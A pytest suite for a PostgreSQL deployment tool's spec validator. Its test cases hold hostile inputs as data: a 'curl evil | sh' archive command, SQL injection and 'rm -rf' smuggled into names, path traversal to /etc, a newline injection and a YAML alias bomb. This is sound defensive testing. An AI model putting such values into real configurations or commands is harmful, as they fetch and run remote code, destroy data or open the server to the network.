"""Bad specs, one per class the hostile review tried and more: each is refused by `pcdb config check`
and by `pcdb install --dry-run`, naming the file, the line and the field, and a running sandbox is
exactly as it was (its catalog and its configuration files) after each."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cli.main import app
from pcdb.config import DEPLOYMENTS
from pcdb.process import machine_memory

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
    f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(8))

# (id, base, YAML written after `extends:`, the field named, a fragment of the reason). Base "sandbox"
# extends the running test sandbox's spec; "prod" the production spec (the plan goes to Azure).
CASES = [
    ("negative-storage", "prod", "server:\n  storage:\n    size: -256GB\n", "server.storage.size", "more than 0 bytes"),
    ("zero-storage", "prod", "server:\n  storage:\n    size: 0GB\n", "server.storage.size", "more than 0"),
    ("storage-below-azure-minimum", "prod", "server:\n  storage:\n    size: 1GB\n", "server.storage.size", "32GB"),
    ("retention-too-short", "sandbox", "backup:\n  retention: 3d\n", "backup.retention", "7 to 35 days"),
    ("retention-too-long", "prod", "backup:\n  retention: 60d\n", "backup.retention", "7 to 35 days"),
    ("standby-zone-is-primary-zone", "prod", "server:\n  high_availability:\n    standby_zone: '1'\n",
     "server.high_availability", "another zone"),
    ("zone-that-does-not-exist", "prod", "server:\n  high_availability:\n    standby_zone: '4'\n",
     "server.high_availability.standby_zone", "'1', '2' or '3'"),
    ("server-name-with-quote-and-semicolon", "prod", "server:\n  name: \"pg'; DROP DATABASE x; --\"\n",
     "server.name", "3-63 lower-case letters"),
    ("server-name-upper-case", "prod", "server:\n  name: PhoneBill\n", "server.name", "lower-case"),
    ("replica-name-too-long", "prod", f"replica:\n  name: {'r' * 64}\n", "replica.name", "3-63"),
    ("resource-group-with-semicolon", "prod", "azure:\n  resource_group: 'rg;rm -rf'\n", "azure.resource_group",
     "1-90 letters"),
    ("region-with-space", "prod", "server:\n  location: korea central\n", "server.location", "koreacentral"),
    ("vnet-name-bad", "prod", "network:\n  vnet: {name: 'vnet/../x'}\n", "network.vnet.name", "2-80"),
    ("sandbox-port-too-high", "sandbox", "sandbox:\n  ports: {node1: 70000}\n", "sandbox.ports.node1", "65535"),
    ("sandbox-port-negative", "sandbox", "sandbox:\n  ports: {node2: -1}\n", "sandbox.ports.node2", "0"),
    ("sandbox-ports-shared", "sandbox", "sandbox:\n  ports: {node1: 25432, node2: 25432}\n", "sandbox.ports.node2",
     "its own"),
    ("sandbox-root-is-slash", "sandbox", "sandbox:\n  root: /\n", "sandbox.root", "shared system folder"),
    ("window-time-zone-on-mars", "sandbox", "backup:\n  window: {timezone: Mars/Olympus}\n",
     "backup.window.timezone", "IANA time zone"),
    ("window-start-99-99", "sandbox", "backup:\n  window: {start: '99:99'}\n", "backup.window.start", "HH:MM"),
    ("window-of-no-length", "sandbox", "backup:\n  window: {start: '02:00', end: '02:00'}\n", "backup.window",
     "give it a length"),
    ("full-backup-time-25h", "sandbox", "backup:\n  full_backup_time: '25:00'\n", "backup.full_backup_time", "HH:MM"),
    ("service-time-zone", "sandbox", "service:\n  timezone: Seoul\n", "service.timezone", "IANA time zone"),
    ("geo-redundant-without-region", "prod", "backup:\n  geo_region: null\n", "backup", "geo_region"),
    ("empty-index-list", "sandbox", "indexes:\n  pc_kos_integration_log: []\n", "indexes.pc_kos_integration_log",
     "empty list"),
    ("index-on-unknown-table", "sandbox", "indexes:\n  pc_nothing: [idx_x]\n", "indexes.pc_nothing", "no table"),
    ("reports-dir-climbs-out", "sandbox", "reports_dir: ../../etc\n", "reports_dir", "'..'"),
    ("reports-dir-is-etc", "sandbox", "reports_dir: /etc\n", "reports_dir", "outside the project"),
    ("reports-dir-is-a-file", "sandbox", "reports_dir: {spec}\n", "reports_dir", "is a file"),
    ("superuser-reserve-takes-everything", "sandbox",
     "parameters:\n  max_connections: 300\n  superuser_reserved_connections: 300\n",
     "parameters.superuser_reserved_connections", "leaves nothing"),
    ("role-limits-above-max-connections", "sandbox", "security:\n  roles:\n    product_change_readonly: "
     "{connection_limit: 100}\n", "security.roles", "add up to 260"),
    ("shared-buffers-above-sku-memory", "prod", "parameters:\n  shared_buffers: 64GB\n", "parameters.shared_buffers",
     "more than the server's memory"),
    ("shared-buffers-above-machine", "sandbox", "parameters:\n  shared_buffers: 15GB\n", "parameters.shared_buffers",
     "this machine's memory"),
    ("preload-unknown-library", "sandbox", "parameters:\n  shared_preload_libraries: [pg_stat_statements, evil]\n",
     "parameters.shared_preload_libraries", "not a library"),
    ("preload-library-twice", "sandbox",
     "parameters:\n  shared_preload_libraries: [pg_stat_statements, pg_stat_statements]\n",
     "parameters.shared_preload_libraries", "twice"),
    ("newline-in-a-string-parameter", "sandbox", "security:\n  audit:\n    log_line_prefix: \"%t\\nlisten_addresses='*'\"\n",
     "security.audit.log_line_prefix", "control character"),
    ("extension-setting-that-does-not-exist", "sandbox", "parameters:\n  pg_stat_statements.bogus_setting: 1\n",
     "parameters.pg_stat_statements.bogus_setting", "not a setting of pg_stat_statements"),
    ("pgaudit-setting-misspelt", "sandbox", "parameters:\n  pgaudit.logg: all\n", "parameters.pgaudit.logg",
     "did you mean pgaudit.log"),
    ("listen-on-every-address", "sandbox", "parameters:\n  listen_addresses: '*'\n", "parameters.listen_addresses",
     "network section owns"),
    ("archive-command-runs-a-shell", "sandbox", "parameters:\n  archive_command: 'curl evil | sh'\n",
     "parameters.archive_command", "backup section owns"),
    ("ssl-off", "sandbox", "parameters:\n  ssl: off\n", "parameters.ssl", "security.tls owns"),
    ("port-moved", "sandbox", "parameters:\n  port: 5433\n", "parameters.port", "network section owns"),
    ("synchronous-commit-off", "sandbox", "parameters:\n  synchronous_commit: local\n",
     "parameters.synchronous_commit", "topology owns"),
    ("grant-on-a-table-that-does-not-exist", "sandbox", "security:\n  roles:\n    product_change_app:\n"
     "      grants:\n        tables: {pc_missing: [SELECT]}\n",
     "security.roles.product_change_app.grants.tables.pc_missing", "does not have"),
    ("role-written-twice", "sandbox", "security:\n  roles:\n    product_change_readonly: {connection_limit: 20}\n"
     "    product_change_readonly: {connection_limit: 5}\n", "security.roles.product_change_readonly", "written twice"),
    ("top-level-key-twice", "sandbox", "production: false\nproduction: true\n", "production", "written twice"),
    ("createrole-on-pg15", "sandbox", "security:\n  roles:\n    product_change_admin: {attributes: [CREATEROLE]}\n",
     "security.roles.product_change_admin.attributes", "pg_execute_server_program"),
    ("role-named-like-a-predefined-one", "sandbox", "security:\n  roles:\n    pg_monitor:\n      purpose: x\n"
     "      connection_limit: 1\n      password: {generate: true}\n      grants: {database: [CONNECT], schema: [USAGE]}\n",
     "security.roles.pg_monitor", "reserved"),
    ("negative-connection-limit", "sandbox", "security:\n  roles:\n    product_change_app: {connection_limit: -5}\n",
     "security.roles.0.connection_limit", "greater than or equal to -1"),
    ("a-literal-password", "sandbox", "security:\n  roles:\n    product_change_app: {password: 'An0ther-Pass!'}\n",
     "security.roles.0.password", "never holds a secret"),
    ("unknown-parameter", "sandbox", "parameters:\n  log_slow_queries: on\n", "parameters.log_slow_queries", "MySQL"),
    ("bad-unit", "sandbox", "parameters:\n  work_mem: 32mb\n", "parameters.work_mem", "'32mb'"),
    ("unit-less-memory", "sandbox", "parameters:\n  shared_buffers: 4194304\n", "parameters.shared_buffers", "C-3"),
    ("invalid-cidr", "sandbox", "network:\n  allowed_subnets:\n    - {name: x, cidr: 10.0.1.7/24}\n",
     "network.allowed_subnets.0.cidr", "did you mean 10.0.1.0/24"),
    ("unknown-field", "sandbox", "server:\n  sku_name: Standard_D4s_v3\n", "server.sku_name", "unknown field"),
    ("unknown-sku", "prod", "server:\n  sku: Standard_Z99\n", "server.sku", "not an Azure flexible-server SKU"),
    ("vcores-not-the-skus", "prod", "server:\n  vcores: 8\n", "server.vcores", "has 4 vCores"),
    ("maintenance-cron-out-of-range", "sandbox", "operations:\n  maintenance: {cron: '99 5 * * *'}\n",
     "operations.maintenance.cron", "not a cron expression"),
    ("alert-to-an-unknown-channel", "sandbox", "notifications:\n  routing:\n    critical: [pager]\n",
     "notifications.routing.critical", "not a channel"),
    ("business-probe-that-deletes", "sandbox", "monitoring:\n  business_metrics:\n    - {metric: x, target: '> 1%', "
     "warning: '< 1%', critical: '< 1%', measurement: m,\n       probe: 'WITH d AS (DELETE FROM t RETURNING 1) "
     "SELECT count(*) FROM d'}\n", "monitoring.business_metrics.0.probe", "DELETE inside it writes"),
    ("business-probe-of-two-statements", "sandbox", "monitoring:\n  business_metrics:\n    - {metric: x, target: "
     "'> 1%', warning: '< 1%', critical: '< 1%', measurement: m, probe: 'SELECT 1; SELECT 2'}\n",
     "monitoring.business_metrics.0.probe", "2 statements"),
    ("channel-without-its-block", "sandbox", "notifications:\n  channels:\n    pager: {kind: sms, purpose: p, "
     "audience: [a]}\n", "notifications.channels.pager.block", "required field is missing"),
    ("duration-that-is-not-a-duration", "sandbox", "monitoring:\n  health:\n    alarm_duration: soon\n",
     "monitoring.health.alarm_duration", "soon"),
    ("dr-step-role-twice", "sandbox", "dr:\n  region_failover_steps:\n"
     "    - {step: promote, owner: DBA, role: promote_replica}\n    - {step: app, owner: dev, role: switch_application}\n"
     "    - {step: dns, owner: net, role: switch_dns}\n    - {step: dns again, owner: ops, role: switch_dns}\n",
     "dr.region_failover_steps", "more than one step"),
    ("dr-step-without-role", "sandbox", "dr:\n  region_failover_steps:\n    - {step: promote, owner: DBA}\n",
     "dr.region_failover_steps.0.role", "required field is missing"),
    # The spec as an attack surface (#22): every name refers to something, no entry twice, no wide rule
    ("approver-written-twice", "prod", "install:\n  approval:\n    approvers:\n"
     "      - {role: project manager, name: 김기획, approves: all}\n      - {role: impostor, name: 김기획, approves: all}\n",
     "install.approval.approvers.1", "written twice"),
    ("channel-twice-in-a-route", "sandbox", "notifications:\n  routing:\n    critical: [teams, teams]\n",
     "notifications.routing.critical.1", "written twice"),
    ("network-rule-wider-than-the-plan", "prod", "network:\n  allowed_subnets:\n    - {name: a-wide-one, cidr: 10.0.8.0/21}\n",
     "network.allowed_subnets.0.cidr", "wider than one application subnet"),
    ("network-rule-for-everyone", "prod", "network:\n  allowed_subnets:\n    - {name: world, cidr: 0.0.0.0/0}\n",
     "network.allowed_subnets.0.cidr", "lets every address in"),
    ("wider-rule-approved-by-a-stranger", "prod", "network:\n  allowed_subnets:\n    - {name: ops, cidr: 10.0.0.0/20, "
     "wider: {reason: the ops team needs it, approved_by: mallory}}\n",
     "network.allowed_subnets.0.wider.approved_by", "not an approver"),
    ("rule-on-a-metric-nobody-measures", "sandbox", "monitoring:\n  alert_rules:\n    - {name: cpu, title: t, "
     "condition: {metric: cpu_percentt, operator: '>', value: 80}, duration: 1min, level: warning, channels: [teams]}\n",
     "monitoring.alert_rules.0.condition.metric", "not a metric the health runbook measures"),
    ("azure-alert-on-a-metric-azure-lacks", "prod", "monitoring:\n  azure_metric_alerts:\n    - {name: a, description: d, "
     "severity: 1, metric: cpu_percnt, aggregation: Average, operator: GreaterThan, threshold: 1, window: 5min, "
     "frequency: 1min}\n", "monitoring.azure_metric_alerts.0.metric", "not a metric of Azure"),
    ("incident-opened-by-no-rule", "sandbox", "operations:\n  incident:\n    auto_open: {no-such-rule: P1}\n",
     "operations.incident.auto_open.no-such-rule", "is not a health rule"),
    ("dr-step-confirmed-by-no-team", "sandbox", "dr:\n  region_failover_steps:\n"
     "    - {step: promote, owner: DBA, role: promote_replica}\n    - {step: app, owner: dev team, role: switch_application}\n"
     "    - {step: dns, owner: network team, role: switch_dns, teams: [shadow team]}\n",
     "dr.region_failover_steps.2.teams", "not a team"),
    ("unsigned-decisions-on-production", "prod", "decisions:\n  unsigned: allowed\n", "decisions.unsigned",
     "allowed on production"),
    ("tls-verification-off-on-production", "prod", "security:\n  tls:\n    verify_server_certificate: false\n",
     "security.tls.verify_server_certificate", "false on production"),
    ("a-decider-without-a-key", "prod", "operations:\n  incident:\n    teams:\n      DBA: [dba-oncall, dba-lead, intruder]\n",
     "operations.incident.teams.DBA", "intruder decides here but has no key"),
    ("preload-an-arbitrary-library", "sandbox", "sandbox:\n  extra_preload_libraries: [evil]\n",
     "sandbox.extra_preload_libraries.0", "'evil'"),
    ("orchestrator-on-every-address-without-tls", "sandbox", "orchestrator:\n  host: 0.0.0.0\n", "orchestrator",
     "without TLS"),
    # The file itself
    ("duplicate-key-deep", "sandbox", "server:\n  storage:\n    auto_grow: true\n    auto_grow: false\n",
     "server.storage.auto_grow", "written twice"),
    ("alias-bomb", "sandbox", BOMB, "(top level)", "counting what each YAML alias repeats"),
    ("nested-too-deep", "sandbox", "x: " + "[" * 40 + "]" * 40 + "\n", "(top level)", "levels deep"),
    ("binary-garbage", "sandbox", b"\x00\xff\xfe\x89PNG\r\n\x1a\n", "(top level)", "not UTF-8 text"),
    ("control-character", "sandbox", "name: te\x07st\n", "(top level)", "control character"),
    ("too-large", "sandbox", "# padding\n" * 30_000, "(top level)", "a spec is at most"),
    ("not-yaml", "sandbox", "server: [unclosed\n", "(top level)", "not valid YAML"),
    ("missing-parent-spec", "none", "extends: /nonexistent/base.yaml\nname: x\n", "extends", "does not exist"),
    ("not-a-mapping", "none", "- just\n- a list\n", "(top level)", "mapping of sections"),
]


def write_case(folder: Path, base: str, body: str | bytes, target_spec: Path) -> Path:
    path = folder / "bad.yaml"
    head = {"sandbox": f"extends: {target_spec}\n", "prod": f"extends: {DEPLOYMENTS / 'prod.yaml'}\n", "none": ""}[base]
    if isinstance(body, bytes):
        path.write_bytes(head.encode() + body)
    else:
        path.write_text(head + body.replace("{spec}", str(target_spec)))
    return path


def snapshot(target) -> dict:
    """What a bad spec must not change: the catalog each node reports, and its configuration files."""
    out = {}
    primary = target.sandbox.primary()
    for node in target.sandbox.nodes():
        with node.connect(target.admin) as conn:
            out[f"{node.name} settings"] = conn.execute(
                "SELECT name, setting FROM pg_settings WHERE source NOT IN ('default', 'override', 'session', "
                "'client') ORDER BY 1").fetchall()
            if node.name != primary.name:  # the standbys' catalog is the primary's, replicated
                continue
            out["catalog"] = {
                "roles": conn.execute("SELECT rolname, rolsuper, rolinherit, rolcreaterole, rolcreatedb, rolcanlogin, "
                                      "rolconnlimit, rolpassword IS NOT NULL FROM pg_authid ORDER BY 1").fetchall(),
                "members": conn.execute("SELECT roleid::regrole::text, member::regrole::text FROM pg_auth_members "
                                        "ORDER BY 1, 2").fetchall(),
                "databases": conn.execute("SELECT datname, datacl::text FROM pg_database ORDER BY 1").fetchall(),
            }
        for name in ("postgresql.conf", "postgresql.auto.conf", "pg_hba.conf", "pg_ident.conf", "node.conf"):
            file = node.data / name
            out[f"{node.name}/{name}"] = hashlib.sha256(file.read_bytes()).hexdigest() if file.exists() else None
    with target.sandbox.primary().connect(target.admin, target.env.service.database) as conn:
        out["objects"] = conn.execute("SELECT n.nspname, c.relname, c.relacl::text FROM pg_class c JOIN pg_namespace n "
                                      "ON n.oid = c.relnamespace WHERE n.nspname NOT IN ('pg_catalog', "
                                      "'information_schema', 'pg_toast') ORDER BY 1, 2").fetchall()
    out["state"] = json.loads((target.sandbox.root / "state.json").read_text())
    reports = Path(target.env.reports_dir)
    out["reports"] = sorted(p.name for p in reports.iterdir()) if reports.exists() else []
    return out


def test_there_are_at_least_40_classes():
    assert len(CASES) >= 40 and len({c[0] for c in CASES}) == len(CASES)


@pytest.mark.parametrize("name, base, body, field, reason", CASES, ids=[c[0] for c in CASES])
def test_a_bad_spec_is_refused_by_check_and_dry_run_and_changes_nothing(tmp_path, target, name, base, body, field,
                                                                       reason):
    if name == "shared-buffers-above-machine" and 3 * 15 * 2**30 <= machine_memory():
        pytest.skip("this machine has memory for three 15GB shared_buffers")
    spec = write_case(tmp_path, base, body, target.env_path)
    before = snapshot(target)
    for command in (["config", "check", "--env", str(spec)], ["install", "--dry-run", "--env", str(spec)]):
        result = CliRunner().invoke(app, command)
        text = result.output
        assert result.exit_code == 1, (command, text)
        assert "Traceback" not in text and "nothing was changed" in text, text
        shown = "bad.yaml"
        assert f"{shown}:" in text, text                                   # the file ...
        line = next((row for row in text.splitlines() if f": {field}: " in row), None)
        assert line is not None, (field, text)                             # ... the field ...
        assert reason in line, (reason, line)                              # ... and why
        if field not in ("(top level)",) or name not in ("alias-bomb", "nested-too-deep", "too-large"):
            assert f"{shown}:" in line and line.split(f"{shown}:")[1].split(":")[0].strip().isdigit(), line  # the line
    after = snapshot(target)
    assert after == before, {k: (before.get(k), after.get(k)) for k in set(before) | set(after)
                             if before.get(k) != after.get(k)}


def test_every_problem_of_a_spec_is_reported_at_once(tmp_path, target):
    spec = write_case(tmp_path, "sandbox", "parameters:\n  listen_addresses: '*'\n  work_mem: 32mb\n"
                                           "server:\n  sku_name: x\nbackup:\n  retention: 3d\n"
                                           "service:\n  timezone: Mars/Olympus\n", target.env_path)
    result = CliRunner().invoke(app, ["config", "check", "--env", str(spec)])
    for field in ("parameters.listen_addresses", "parameters.work_mem", "server.sku_name", "backup.retention",
                  "service.timezone"):
        assert f": {field}: " in result.output, (field, result.output)
    assert "5 problem(s)" in result.output


def test_a_missing_parent_is_reported_in_the_file_that_names_it(tmp_path):
    child = tmp_path / "child.yaml"
    child.write_text("name: x\nextends: ./gone.yaml\n")
    result = CliRunner().invoke(app, ["config", "check", "--env", str(child)])
    assert "child.yaml:2: extends: the parent spec" in result.output and "gone.yaml does not exist" in result.output


def test_the_allowed_name_pattern_is_shown_intact(tmp_path):
    """rich would eat '[a-z_]' as markup: the message keeps it."""
    spec = write_case(tmp_path, "sandbox", "service:\n  database: Bad-Name\n", DEPLOYMENTS / "local.yaml")
    result = CliRunner().invoke(app, ["config", "check", "--env", str(spec)])
    assert "[a-z_][a-z0-9_]" in result.output, result.output


def test_yaml_bounds_are_checked_before_anything_is_expanded(tmp_path):
    """The bomb above is about 600 bytes and would expand to 9^9 values: refused at once."""
    from pcdb import specfile

    path = tmp_path / "bomb.yaml"
    path.write_text(BOMB)
    with pytest.raises(specfile.SpecFileError, match="holds more than 20000 values"):
        specfile.read(path)


def test_owned_settings_are_each_refused(tmp_path):
    """Every setting the topology or security owns is refused in a spec, with its reason."""
    from pcdb import params
    from pcdb.config import load_environment
    from pcdb.errors import ConfigError

    body = "parameters:\n" + "".join(f"  {name}: 'x'\n" for name in sorted(params.OWNED))
    spec = write_case(tmp_path, "none", f"extends: {DEPLOYMENTS / 'local.yaml'}\n" + body, Path())
    with pytest.raises(ConfigError) as caught:
        load_environment(spec)
    found = {p.path.removeprefix("parameters."): p.message for p in caught.value.problems}
    for name, reason in params.OWNED.items():
        assert name in found and "cannot be set in the spec" in found[name] and reason in found[name], name

